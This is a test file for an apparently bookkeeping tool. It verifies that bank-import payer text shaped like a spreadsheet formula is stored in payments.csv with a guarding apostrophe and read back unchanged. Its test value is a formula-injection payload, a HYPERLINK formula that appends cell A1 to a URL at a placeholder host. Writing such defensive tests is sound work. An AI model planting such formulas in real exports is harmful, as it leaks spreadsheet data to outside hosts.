/**
 * A payer's text a spreadsheet would take for a formula (=HYPERLINK(…)), booked by the bank
 * import: payments.csv is opened in Excel too, so the cell is written with an apostrophe before
 * it (as in bank-review.csv), and the ledger reads it back without the apostrophe: the
 * statement shows the payer's text as the bank gave it.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { bankBooks, onlyEntry } from './bank-books.js';
import { run } from './helpers.js';

describe('a payer\'s text that a spreadsheet would take for a formula', () => {
  it('is guarded in payments.csv, and read back as the bank gave it', async () => {
    const books = bankBooks();
    // BK-1002: FRA pays ISU-2026-002 (5000.00), its number in the text
    const formula = '=HYPERLINK("http://x.example/"&A1,"ISU-2026-002")';
    writeFileSync(path.join(books, 'a.xml'), onlyEntry('BK-1002', (l) => l.replace('Contribution 2026, facture ISU-2026-002', formula.replace(/"/g, '&quot;').replace(/&A1/, '&amp;A1'))));
    const r = await run(['bank', 'import', 'a.xml', '--books', books, '--apply', '--format', 'json'], { cwd: books });
    expect(r.code, r.stderr).toBe(0);
    const line = (JSON.parse(r.stdout) as { lines: { text: string; action: string; match: { iso3: string } }[] }).lines[0]!;
    expect(line).toMatchObject({ text: formula, action: 'book', match: { iso3: 'FRA' } });
    const payments = readFileSync(path.join(books, 'payments.csv'), 'utf8');
    // the cell begins with the apostrophe (inside the quotes the commas and quotes need)
    expect(payments).toContain(`,"'${formula.replace(/"/g, '""')}",`);
    expect(payments).not.toMatch(/,"?=HYPERLINK/);
    // read back by the ledger: the text itself
    const st = await run(['statement', 'FRA', '--as-of', '2026-12-31', '--books', books, '--format', 'json'], { cwd: books });
    expect(st.code, st.stderr).toBe(0);
    expect(st.stdout).toContain(JSON.stringify(formula).slice(1, -1));
    expect(st.stdout).not.toContain(`'=HYPERLINK`);
    expect((await run(['check', '--books', books], { cwd: books })).code).toBe(0);
    // and the file imported again adds nothing
    const again = await run(['bank', 'import', 'a.xml', '--books', books, '--apply'], { cwd: books });
    expect(again.code).toBe(0);
    expect(readFileSync(path.join(books, 'payments.csv'), 'utf8')).toBe(payments);
  });
});
